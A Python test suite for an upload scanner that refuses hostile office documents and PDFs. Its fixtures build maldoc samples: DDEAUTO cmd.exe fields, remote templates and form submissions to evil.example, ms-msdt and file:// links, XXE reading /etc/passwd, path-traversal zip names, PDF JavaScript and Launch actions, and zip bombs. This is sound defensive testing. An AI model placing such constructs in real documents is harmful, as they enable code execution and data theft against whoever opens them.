"""Hostile files are refused with the place in them; ordinary ones of the same kinds pass."""

import io
import tracemalloc
import zipfile
import zlib
from base64 import b64decode

import pytest

from demo.province import docx as demo
from demo.province.procedures import read
from kernel.data.judging.child import judge
from kernel.data.judging.rules import (
    ACTIVE,
    EMBEDDED,
    EXTERNAL,
    KNOWN_BAD,
    TOO_LARGE,
    UNREADABLE,
    media_types,
    rules,
)
from tests import files
from tests.files import DOCX, ODT, PDF, XLSX

EICAR = b64decode(rules()["patterns"][0]["base64"])
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600


def verdict(content: bytes, media_type: str) -> str | None:
    against = judge(io.BytesIO(content), media_type)
    return against.code if against else None


def with_parts(members, **parts):
    return files.packed(members | {name.replace("__", "/"): said for name, said in parts.items()})


def word(**parts) -> bytes:
    return files.packed(files.docx_members() | parts.pop("parts", {}) | parts)


def related(*each) -> dict[str, str]:
    return {"word/_rels/document.xml.rels": files.relations(*each)}


def field(instruction: str) -> dict[str, str]:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction.split("|"))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    body = f'<w:document xmlns:w="{files.WORD}"><w:body><w:p>{begin}{runs}{end}</w:p></w:body></w:document>'
    return {"word/document.xml": body}


def link(target: str, mode: str = "External") -> dict[str, str]:
    return related(("hyperlink", target, mode))


PICTURE = {"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64}
CHART = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": files.packed(files.xlsx_members())}
GOOD = {
    "a Word file": (word(), DOCX),
    "with pictures": (word(parts=PICTURE), DOCX),
    "with a chart's sheet": (word(parts=CHART), DOCX),
    "with links": (word(parts=link("https://dichvucong.gov.vn/")), DOCX),
    "with a mail address": (word(parts=link("mailto:mot-cua@example.vn")), DOCX),
    "with page numbers": (word(parts=field(" PAGE ")), DOCX),
    "with a table of contents": (word(parts=field(' TOC \\o "1-3" ')), DOCX),
    "of text about DDE": (files.docx("DDE và DDEAUTO là gì; /JavaScript; macro"), DOCX),
    "a workbook": (files.packed(files.xlsx_members()), XLSX),
    "with a printer's settings": (
        files.packed(files.xlsx_members() | {"xl/printerSettings/printerSettings1.bin": b"\0\1P"}),
        XLSX,
    ),
    "a text of LibreOffice": (files.packed(files.odt_members(), method=zipfile.ZIP_STORED), ODT),
    "a PDF": (files.pdf(), PDF),
    "with an address in it": (files.pdf("<< /S /URI /URI (https://example.vn/) >>"), PDF),
    "that opens at a page": (files.pdf(catalog="/OpenAction [3 0 R /Fit]"), PDF),
    "with text about scripts": (
        files.pdf_of(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
                files.stream(b"BT (app.alert JavaScript Launch) Tj ET"),
            ]
        ),
        PDF,
    ),
}


@pytest.mark.parametrize(("content", "media_type"), GOOD.values(), ids=GOOD)
def test_an_ordinary_file_passes(content, media_type):
    assert judge(io.BytesIO(content), media_type) is None


def test_the_demonstrations_own_files_pass():
    given = demo.document(read("qttp_20"), agency="Sở", revision=1, effective="10/08/2026")
    assert judge(io.BytesIO(given), DOCX) is None


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
ACTING = {
    "macros": word(parts={"word/vbaProject.bin": OLE}),
    "macros by type": word(parts={"[Content_Types].xml": files.types(MACRO)}),
    "macros beside the right type": word(
        parts={"[Content_Types].xml": files.types(f"{DOCX}.main+xml", "application/vnd.ms-office.vbaProject")}
    ),
    "macros by relation": word(parts=related(("vbaProject", "x.xml", "Internal"))),
    "a control": word(parts=related(("control", "activeX/activeX1.xml", "Internal"))),
    "a ribbon": word(parts={"customUI/customUI.xml": "<customUI/>"}),
    "DDE": word(parts=field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")),
    "DDE in pieces": word(parts=field(" DD|EAU|TO cmd ")),
    "DDE spelt in numbers": word(parts=field(" QUOTE 68 68 69 ")),
}
READING = {
    "a template": word(parts=related(("attachedTemplate", "https://evil.example/t.dotm", "External"))),
    "a picture": word(parts=related(("image", "https://evil.example/a.png", "External"))),
    "a share": word(parts=related(("image", "\\\\evil.example\\a.png", "External"))),
    "an object": word(parts=related(("package", "https://evil.example/a.xlsx", "External"))),
    "a program's address": word(parts=link("ms-msdt:/id PCWDiagnostic")),
    "a script's address": word(parts=link("javascript:alert(1)")),
    "a file's address": word(parts=link("file:///c:/windows/system32/cmd.exe")),
    "a share's address": word(parts=link("//evil.example/a")),
    "inside, it says": word(parts=related(("image", "https://evil.example/a", "Internal"))),
    "text": word(parts=field(' INCLUDETEXT "https://evil.example/a" ')),
    "a frame": word(parts=related(("frame", "x.xml", "Internal"))),
    "another workbook": files.packed(files.xlsx_members() | {"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "a database": files.packed(files.xlsx_members() | {"xl/connections.xml": "<connections/>"}),
}
CARRYING = {
    "an object": word(parts=related(("oleObject", "embeddings/oleObject1.bin", "Internal"))),
    "its bytes": word(parts={"word/embeddings/oleObject1.bin": OLE}),
    "a program as a picture": word(parts={"word/media/image1.png": b"MZ\x90\0" + b"\0" * 60}),
    "an archive as a picture": word(parts={"word/media/image1.jpg": files.packed({"a.exe": b"MZ"})}),
    "a PDF as a picture": word(parts={"word/media/image1.jpg": files.pdf()}),
    "text of another format": word(parts=related(("aFChunk", "a.mht", "Internal"))),
    "a file in a file in a file": word(
        parts={
            "word/embeddings/a.docx": word(parts={"word/embeddings/b.docx": files.docx()}),
        }
    ),
}
UNJUDGED = {
    "a script": word(parts={"word/evil.js": b"alert(1)"}),
    "a zip": word(parts={"word/inner.zip": files.packed({"a": b"b"})}),
    "a path upwards": word(parts={"../../evil.xml": "<x/>"}),
    "an absolute path": word(parts={"/evil.xml": "<x/>"}),
    "a name turned round": word(parts={"word/\u202egnp.xml": "<x/>"}),
    "a name of a drive": word(parts={"c:evil.xml": "<x/>"}),
    "names that differ in case": word(parts={"word/Document.xml": files.paragraph("khác")}),
    "entities": word(
        parts={"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>'}
    ),
    "another document type": word(
        parts={"word/document.xml": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}
    ),
    "no XML": word(parts={"word/document.xml": "<a>"}),
    "no list of types": files.packed({"word/document.xml": "<a/>"}),
    "of another type": word(parts={"[Content_Types].xml": files.types(f"{XLSX}.main+xml")}),
    "bytes behind": files.docx() + b"<script>alert(1)</script>",
    "bytes before": b"PK\x03\x04" + files.docx(),
    "cut off": files.docx()[:-40],
    "a wrong checksum": files.packed(files.docx_members(), method=zipfile.ZIP_STORED).replace(
        "Quy trình".encode(), b"Quy trinH" + b" "
    ),
    "no archive": b"PK\x03\x04 word/",
}
OF_WORD = {
    **{f"acts: {what}": (each, ACTIVE) for what, each in ACTING.items()},
    **{f"reads: {what}": (each, EXTERNAL) for what, each in READING.items()},
    **{f"carries: {what}": (each, EMBEDDED) for what, each in CARRYING.items()},
    **{f"not judged: {what}": (each, UNREADABLE) for what, each in UNJUDGED.items()},
}


@pytest.mark.parametrize(("content", "code"), OF_WORD.values(), ids=OF_WORD)
def test_a_hostile_office_file_is_refused(content, code):
    media_type = XLSX if b"xl/workbook.xml" in content[:4000] and b"word/" not in content else DOCX
    assert verdict(content, media_type) == code


def test_a_file_with_a_password_cannot_be_judged():
    content = bytearray(files.docx())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 1)
    assert verdict(bytes(content), DOCX) == UNREADABLE


OPEN = {
    "macros": ({"Basic/Standard/Module1.xml": "<a/>"}, ACTIVE),
    "scripts": ({"Scripts/python/a.py": "print()"}, ACTIVE),
    "a listener": ({"content.xml": "<a xmlns:s='urn:s'><s:event-listener/></a>"}, ACTIVE),
    "a picture from elsewhere": (
        {"content.xml": "<a xmlns:d='urn:d' xmlns:x='urn:x'><d:image x:href='https://evil.example/'/></a>"},
        EXTERNAL,
    ),
    "a macro's address": (
        {"content.xml": "<a xmlns:x='urn:x'><a x:href='vnd.sun.star.script:a'/></a>"},
        EXTERNAL,
    ),
    "DDE": ({"content.xml": "<a xmlns:o='urn:o'><o:dde-source/></a>"}, EXTERNAL),
    "an object": ({"content.xml": "<a xmlns:d='urn:d'><d:object-ole/></a>"}, EMBEDDED),
    "OLE bytes": ({"ObjectReplacements/Object 1": OLE}, EMBEDDED),
    "encrypted": ({"META-INF/manifest.xml": "<m xmlns:m='urn:m'><m:encryption-data/></m>"}, UNREADABLE),
    "of another type": ({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, UNREADABLE),
}


@pytest.mark.parametrize(("parts", "code"), OPEN.values(), ids=OPEN)
def test_a_hostile_opendocument_is_refused(parts, code):
    assert verdict(files.packed(files.odt_members() | parts, method=zipfile.ZIP_STORED), ODT) == code


def hidden_in_an_object_stream(said: bytes) -> bytes:
    """A PDF whose fourth object stands compressed in an object stream, found by a stream of references."""
    inside = b"4 0 " + said
    body = zlib.compress(inside)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    out, at = bytearray(b"%PDF-1.7\n"), {}
    for number, each in [*enumerate(bodies, 1), (5, None)]:
        at[number] = len(out)
        each = each or files.stream(body, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
        out += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    at[6] = len(out)
    rows = [(0, 0, 255), *((1, at[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, at[5], 0), (1, at[6], 0)]
    table = b"".join(bytes([a]) + b.to_bytes(3, "big") + bytes([c]) for a, b, c in rows)
    said_of_it = "/Type /XRef /W [1 3 1] /Size 7 /Root 1 0 R"
    out += b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (files.stream(table, said_of_it), at[6])
    return bytes(out)


SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
OF_PDF = {
    "a script": (files.pdf(SCRIPT), ACTIVE),
    "a script at the start": (files.pdf(catalog=f"/OpenAction {SCRIPT}"), ACTIVE),
    "a script by another spelling": (files.pdf("<< /S /J#61vaScript /J#53 (x) >>"), ACTIVE),
    "a script in an object stream": (hidden_in_an_object_stream(SCRIPT.encode()), ACTIVE),
    "a program": (files.pdf("<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    "a form of XML": (files.pdf(catalog="/AcroForm << /XFA 3 0 R >>"), ACTIVE),
    "a form that sends": (files.pdf("<< /S /SubmitForm /F (https://evil.example/) >>"), ACTIVE),
    "another file": (files.pdf("<< /S /GoToR /F (\\\\\\\\evil.example\\\\a) >>"), EXTERNAL),
    "a file's address": (files.pdf("<< /S /URI /URI (file:///c:/windows/calc.exe) >>"), EXTERNAL),
    "an embedded file": (files.pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>"), EMBEDDED),
    "an attachment": (files.pdf("<< /Type /Annot /Subtype /FileAttachment >>"), EMBEDDED),
    "a film": (files.pdf("<< /Type /Annot /Subtype /Movie >>"), EMBEDDED),
    "text behind": (files.pdf() + b"<script>alert(1)</script>", UNREADABLE),
    "a program behind": (files.pdf() + b"MZ\x90\0" * 20, UNREADABLE),
    "an archive behind": (files.pdf() + files.packed({"a.exe": b"MZ"}), UNREADABLE),
    "a page of HTML": (b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF", ACTIVE),
    "an HTML application": (b"%PDF-1.7\n<hta:application id=x>\n%%EOF", KNOWN_BAD),
    "nothing but its name": (b"%PDF-1.7\nMZ\x90\0 program", UNREADABLE),
    "no objects": (b"%PDF-1.7\n%%EOF", UNREADABLE),
    "a table that points nowhere": (files.pdf().replace(b"startxref\n", b"startxref\n9"), UNREADABLE),
    "EICAR": (EICAR + b"", UNREADABLE),
}


@pytest.mark.parametrize(("content", "code"), list(OF_PDF.values())[:-1], ids=list(OF_PDF)[:-1])
def test_a_hostile_pdf_is_refused(content, code):
    assert verdict(content, PDF) == code


def test_a_pdf_with_a_password_cannot_be_judged_and_one_without_can():
    from pypdf import PdfReader, PdfWriter

    for password, code in (("", None), ("bí mật", UNREADABLE)):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
        writer.encrypt(user_password=password, owner_password="chủ", algorithm="AES-256")
        out = io.BytesIO()
        writer.write(out)
        assert verdict(out.getvalue(), PDF) == code


@pytest.mark.parametrize("media_type", [DOCX, PDF])
def test_a_known_pattern_is_found_wherever_it_stands(media_type):
    if media_type == PDF:
        assert verdict(files.pdf() + EICAR, PDF) == KNOWN_BAD
        return
    filler = b"\0" * ((1 << 16) - len(EICAR) // 2)  # across the border of two pieces
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        members = files.docx_members() | {"word/media/a.png": filler + EICAR}
        assert verdict(files.packed(members, method=method), DOCX) == KNOWN_BAD


BOMB = files.packed(files.docx_members() | {"word/media/a.bmp": b"\0" * 100_000_000})
MANY = files.packed(files.docx_members() | {f"word/media/{n}.png": b"" for n in range(6000)})


@pytest.mark.parametrize("content", [BOMB, MANY], ids=["100 MB in 102 kB", "6,000 members"])
def test_a_bomb_is_refused_without_going_off(content):
    assert len(content) < 1_200_000
    tracemalloc.start()
    assert verdict(content, DOCX) == TOO_LARGE
    assert tracemalloc.get_traced_memory()[1] < 40_000_000
    tracemalloc.stop()


def test_a_bomb_in_a_package_in_a_package_is_counted_together():
    inner = files.packed(files.xlsx_members() | {"xl/media/a.bmp": b"\0" * 60_000_000})
    assert verdict(word(parts={"word/embeddings/a.xlsx": inner}), DOCX) == TOO_LARGE


def test_a_member_that_lies_about_its_size_is_refused():
    content = files.packed(files.docx_members() | {"word/media/a.bmp": b"\0" * 50_000_000})
    lying = content.replace((50_000_000).to_bytes(4, "little"), (5).to_bytes(4, "little"))
    assert verdict(lying, DOCX) == UNREADABLE


@pytest.mark.parametrize("media_type", media_types())
def test_noise_of_every_type_is_refused_and_breaks_nothing(media_type):
    from random import Random

    noise, begins = Random(7), media_types()[media_type].begins
    for length in (0, 1, 10, 100, 10_000):
        assert verdict(begins + noise.randbytes(length), media_type) == UNREADABLE


@pytest.mark.parametrize("good", [files.docx(), files.pdf()], ids=["docx", "pdf"])
def test_any_one_byte_changed_is_refused_or_passes_and_breaks_nothing(good):
    from random import Random

    dice = Random(11)
    for _ in range(400):
        broken = bytearray(good)
        broken[dice.randrange(len(broken))] = dice.randrange(256)
        verdict(bytes(broken), PDF if good.startswith(b"%PDF") else DOCX)
